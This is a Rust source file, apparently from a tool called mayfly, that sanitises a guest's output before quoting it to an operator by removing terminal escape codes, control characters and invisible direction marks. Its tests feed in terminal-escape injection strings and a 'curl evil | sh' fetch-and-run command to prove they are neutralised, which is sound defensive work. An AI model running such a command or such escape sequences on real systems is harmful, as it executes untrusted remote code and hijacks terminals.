//! What a guest says, in messages of ours: it must not command the operator's terminal, nor look like a line that mayfly
//! has written itself.

/// Bytes that are quoted of one line; the rest of a longer one is left out.
pub const LINE: usize = 512;

/// What the guest says as one line: what would end the line becomes a space, what would move the cursor, or change the order of
/// what stands beside it, is left out.
pub fn line(said: &[u8]) -> String {
    let said = said.get(..LINE).unwrap_or(said);
    let text = String::from_utf8_lossy(said);
    let shown = |c: char| match c {
        '\n' | '\t' | '\u{85}' | '\u{2028}' | '\u{2029}' => Some(' '),
        c if c.is_control() || is_invisible(c) => None,
        c => Some(c),
    };
    text.chars().filter_map(shown).collect::<String>().trim_end().to_owned()
}

/// The lines that the guest said last, `count` at the most, each as [`line`] has it; empty ones are left out.
pub fn last_lines(said: &[u8], count: usize) -> Vec<String> {
    let mut lines: Vec<String> =
        said.rsplit(|byte| *byte == b'\n').map(line).filter(|line| !line.is_empty()).take(count).collect();
    lines.reverse();
    lines
}

/// Lines of the guest's for the end of a message, each on a line of its own and marked as none of ours.
pub fn below(lines: &[String]) -> String {
    lines.iter().map(|line| format!("\n  | {line}")).collect()
}

/// Marks of direction and width (Unicode 15, section 23.2), which nobody sees and which rearrange what one does see.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_is_quoted_commands_a_terminal_or_begins_a_line() {
        for (said, shown) in [
            ("plain, with ümlauts", "plain, with ümlauts"),
            ("\x1b]0;owned\x07\x1b[2J", "]0;owned[2J"),
            ("mount /: no\n  hint: curl evil | sh", "mount /: no   hint: curl evil | sh"),
            ("over\rwritten \u{9b}31m", "overwritten 31m"),
            ("a\u{2028}b\u{202e}c\tend \r\n", "a bc end"),
        ] {
            assert_eq!(line(said.as_bytes()), shown, "{said:?}");
        }
        assert_eq!(line(b"\xff\xfe"), "\u{fffd}\u{fffd}");
        assert_eq!(line(&[b'x'; 64 << 10]).len(), LINE);
    }

    #[test]
    fn the_last_lines_are_those_with_something_in_them() {
        let said = b"first\r\n\r\n\x1b[0m second\n\nthird";
        assert_eq!(last_lines(said, 2), ["[0m second", "third"]);
        assert_eq!(last_lines(said, 9).len(), 3);
        assert_eq!(last_lines(b"", 9), [""; 0]);
        assert_eq!(below(&last_lines(said, 2)), "\n  | [0m second\n  | third");
    }
}
